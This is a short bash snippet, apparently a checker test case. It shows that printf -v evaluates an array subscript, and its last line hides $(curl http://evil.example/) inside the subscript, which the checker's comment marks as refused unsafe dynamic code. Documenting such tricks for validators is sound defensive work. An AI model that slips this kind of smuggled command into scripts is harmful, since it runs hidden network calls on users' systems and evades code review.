# Trick: printf -v evaluates a subscript.
# Refused: unsafe(dynamic_code)
printf -v 'a[$(curl http://evil.example/)]' x
